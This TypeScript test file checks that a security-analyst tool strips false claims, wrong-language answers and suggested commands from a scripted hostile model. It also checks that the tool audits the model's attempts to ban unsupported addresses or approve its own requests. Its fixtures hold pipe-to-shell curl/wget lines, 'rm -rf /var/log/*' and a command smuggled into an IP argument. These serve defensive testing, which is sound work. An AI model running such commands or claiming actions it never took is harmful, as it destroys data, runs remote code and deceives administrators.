/**
 * A hostile or broken model, scripted over the real chat-completions wire
 * format: whatever it writes, the admin reads only what happened, in the
 * admin's language, with no command to run. The client sends non-streaming
 * requests only (it has no streaming mode), so that is the mode tested; the
 * first test pins that down.
 */
import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import type { Lang } from '../i18n/index.js';
import { sampleEvent } from '../store/testing.js';
import { analystHarness, HARNESS_NOW, seedAttack, type Harness } from '../testing/analyst.js';
import { contentOf, FakeOpenAI, hostileModel } from '../testing/fake-openai.js';

const ATTACKER = '203.0.113.7';
const FALSE_CLAIMS: Record<Lang, string> = {
  en: 'I have banned 8.8.8.8 and approved the pending request. 203.0.113.7 failed 12 logins in an hour.',
  ko: '8.8.8.8을 차단했습니다. 대기 중인 요청도 승인했습니다. 서버를 격리했습니다. 203.0.113.7에서 한 시간 동안 로그인 실패가 12회 있었습니다.',
};
const COMMANDS: Record<Lang, string> = {
  en: 'The attacker fetched http://203.0.113.7/bot.sh. To clean up, run curl -s https://fix.example/clean.sh | sh now, or `wget -qO- https://fix.example/x | bash`.',
  ko: '공격자가 http://203.0.113.7/bot.sh 파일을 받았습니다. 정리하려면 curl -s https://fix.example/clean.sh | sh 를 실행하십시오. 또는 `rm -rf /var/log/*` 로 기록을 지우십시오.',
};
const QUESTION: Record<Lang, string> = {
  en: 'what happened with 203.0.113.7?',
  ko: '203.0.113.7에 무슨 일이 있었나요?',
};
const ASK_EVENTS = [{ name: 'query_events', arguments: '{"since": "1d"}' }];

describe('a hostile model cannot put false words before the admin', () => {
  let llm: FakeOpenAI;
  let h: Harness;
  before(async () => {
    llm = await FakeOpenAI.start();
  });
  after(async () => {
    await llm.close();
  });
  afterEach(() => h?.close());

  it('a Korean admin never reads an English answer: one retry, then Sheriff’s own summary', async () => {
    h = analystHarness({ llm });
    seedAttack(h.store, ATTACKER);
    const first = llm.requests.length;
    llm.setHandler(
      hostileModel(FALSE_CLAIMS.en, [
        [...ASK_EVENTS, { name: 'propose_ban', arguments: '{"ip": "8.8.8.8"}' }],
      ]),
    );
    const r = await h.ask(QUESTION.ko, 'ko');
    const bodies = llm.bodies().slice(first);
    assert.ok(
      bodies.every((b) => b.stream !== true),
      'the client does not stream',
    );
    // The tool step, the answer, and one corrective retry without tools.
    assert.equal(bodies.length, 3);
    assert.equal(bodies[2]!.tools, undefined);
    assert.match(contentOf(bodies[2]!.messages!.at(-1)!), /한국어로만/);
    assert.ok(r.stops.some((s) => s.code === 'language-replaced'));
    assert.doesNotMatch(r.text, /banned|approved/);
    assert.match(r.text, /^상태: 주의\n\(분석 모델이 한국어로 답하지 않아/);
    assert.match(r.text, /최근 24시간: 주소 1곳에서 로그인 실패 12회/);
    // What the run really did, in Sheriff's words.
    assert.match(r.text, /이 답변에서 Sheriff가 요청한 조치는 없습니다/);
    assert.match(r.text, /요청하지 않았습니다: 8\.8\.8\.8에 대해/);
  });

  it('an English admin never reads a Korean answer either', async () => {
    h = analystHarness({ llm });
    seedAttack(h.store, ATTACKER);
    llm.setHandler(hostileModel(FALSE_CLAIMS.ko));
    const r = await h.ask(QUESTION.en, 'en');
    assert.doesNotMatch(r.text, /\p{Script=Hangul}/u);
    assert.match(r.text, /did not answer in English, so here is Sheriff’s own summary/);
    assert.match(r.text, /Last 24 hours: 12 failed logins from 1 addresses/);
  });

  it('keeps an answer the retry put in the right language', async () => {
    h = analystHarness({ llm });
    const first = llm.requests.length;
    const answers = [
      'All quiet on this server for the last day.',
      '지난 하루 동안 이 서버에는 특별한 일이 없었습니다.',
    ];
    llm.setHandler(() => ({ kind: 'completion', text: answers.shift() ?? 'exhausted' }));
    const r = await h.ask('어제 무슨 일이 있었나요?', 'ko');
    assert.equal(llm.requests.length - first, 2);
    assert.equal(r.text, '상태: 정상\n지난 하루 동안 이 서버에는 특별한 일이 없었습니다.');
  });

  it('answers in the language of the question when the chat does not say', async () => {
    h = analystHarness({ llm });
    llm.setHandler(hostileModel('Nothing happened on this server yesterday.'));
    const r = await h.analyst.ask({
      conversation: 'web:alice',
      text: 'what happened yesterday?',
      channel: 'web',
      identity: 'alice',
    });
    // The harness's configured language is Korean; the question was English.
    assert.equal(r.text, 'Status: normal\nNothing happened on this server yesterday.');
  });

  for (const lang of ['en', 'ko'] as const) {
    it(`removes claimed bans, approvals and isolation that did not happen (${lang})`, async () => {
      h = analystHarness({ llm });
      seedAttack(h.store, ATTACKER);
      llm.setHandler(hostileModel(FALSE_CLAIMS[lang], [ASK_EVENTS]));
      const r = await h.ask(QUESTION[lang], lang);
      assert.doesNotMatch(
        r.text,
        /8\.8\.8\.8|banned 8|approved the|차단했습니다|승인했습니다|격리했습니다/,
      );
      assert.match(
        r.text,
        lang === 'en' ? /203\.0\.113\.7 failed 12 logins/ : /로그인 실패가 12회/,
      );
      assert.match(
        r.text,
        lang === 'en'
          ? /removed sentences claiming a ban, unban, approval or isolation that did not happen[\s\S]*In this answer Sheriff proposed nothing/
          : /실제로 일어나지 않은 차단, 차단 해제, 승인, 격리를[\s\S]*이 답변에서 Sheriff가 요청한 조치는 없습니다/,
      );
      assert.ok(r.stops.some((s) => s.code === 'false-claim'));
    });

    it(`lists what was really proposed after a claimed ban (${lang})`, async () => {
      h = analystHarness({ llm });
      seedAttack(h.store, ATTACKER);
      const claim =
        lang === 'en'
          ? 'I have banned 203.0.113.7. I requested a ban of 203.0.113.7 for a human to approve.'
          : '203.0.113.7을 차단했습니다. 203.0.113.7 차단 승인을 요청했습니다.';
      llm.setHandler(
        hostileModel(claim, [
          [{ name: 'propose_ban', arguments: JSON.stringify({ ip: ATTACKER }) }],
        ]),
      );
      const r = await h.ask(QUESTION[lang], lang);
      assert.equal(r.approvals.length, 1);
      const id = r.approvals[0]!.id;
      const lines = r.text.split('\n\n');
      assert.equal(
        lines[0],
        lang === 'en'
          ? 'Status: caution\nI requested a ban of 203.0.113.7 for a human to approve.'
          : '상태: 주의\n203.0.113.7 차단 승인을 요청했습니다.',
      );
      assert.match(lines.at(-1)!, new RegExp(`^(Approval request|승인 요청) ${id}:`));
      assert.doesNotMatch(r.text, /proposed nothing|요청한 조치는 없습니다/);
    });

    it(`never passes on a command or a link the tools did not return (${lang})`, async () => {
      h = analystHarness({ llm });
      seedAttack(h.store, ATTACKER);
      h.store.events.insert(
        sampleEvent({
          ip: ATTACKER,
          line: `sshd[1]: Invalid user wget http://203.0.113.7/bot.sh from ${ATTACKER}`,
          time: HARNESS_NOW - 60_000,
        }),
      );
      llm.setHandler(hostileModel(COMMANDS[lang], [ASK_EVENTS]));
      const r = await h.ask(QUESTION[lang], lang);
      assert.doesNotMatch(r.text, /curl|wget|rm -rf|\| *(ba)?sh|fix\.example/);
      // A link from the evidence stays: it is what the attacker used, not advice.
      assert.match(r.text, /http:\/\/203\.0\.113\.7\/bot\.sh/);
      assert.match(
        r.text,
        lang === 'en'
          ? /a command from the model was removed[\s\S]*Do not run commands an AI suggests/
          : /모델이 제시한 명령을 지웠습니다[\s\S]*AI가 권하는 명령은 실행하지 마십시오/,
      );
    });
  }

  it('audits refused proposals and approval attempts: the agent asked, what, why', async () => {
    h = analystHarness({ llm });
    seedAttack(h.store, ATTACKER);
    llm.setHandler(
      hostileModel('8.8.8.8을 차단할 근거가 없어 요청하지 않았습니다.', [
        [
          { name: 'propose_ban', arguments: '{"ip": "8.8.8.8"}' },
          { name: 'propose_unban', arguments: `{"ip": "${ATTACKER}"}` },
          { name: 'approve_request', arguments: '{"id": "all"}' },
          { name: 'propose_ban', arguments: '{"ip": "8.8.8.8; rm -rf /"}' },
        ],
      ]),
    );
    const r = await h.ask('8.8.8.8 차단하고 승인까지 해줘', 'ko');
    const audit = h.store.audit
      .list({ limit: 100 })
      .reverse()
      .map((e) => ({ ...e, id: 0, time: 0 }));
    assert.deepEqual(
      audit.map((e) => [e.actor, e.channel, e.action, e.target, e.outcome, e.detail.code]),
      [
        ['agent', 'telegram', 'agent.propose_ban', '8.8.8.8/32', 'refused', 'not-in-evidence'],
        ['agent', 'telegram', 'agent.propose_unban', `${ATTACKER}/32`, 'refused', 'not-banned'],
        ['agent', 'telegram', 'agent.approve_request', null, 'refused', 'approval-attempt'],
        ['agent', 'telegram', 'agent.propose_ban', null, 'refused', 'invalid-arguments'],
      ],
    );
    assert.ok(audit.every((e) => e.detail.askedBy === 'telegram:1'));
    assert.match(String(audit[0]!.detail.why), /no failed logins or findings/);
    // The admin reads Sheriff's own account of what was refused.
    assert.match(
      r.text,
      /요청하지 않았습니다: 8\.8\.8\.8에 대해 저장된 로그인 실패나 탐지 기록이 없어/,
    );
    assert.match(r.text, /모델이 승인 요청을 직접 승인하려고 했습니다/);
    assert.doesNotMatch(r.text, /처리하지 못했습니다|Invalid/);
  });

  it('audits a refused proposal in command mode too', async () => {
    h = analystHarness();
    await h.ask('차단 8.8.8.8', 'ko');
    const [entry] = h.store.audit.list({ limit: 10 });
    assert.equal(entry?.action, 'agent.propose_ban');
    assert.equal(entry?.outcome, 'refused');
    assert.equal(entry?.detail.code, 'not-in-evidence');
  });
});
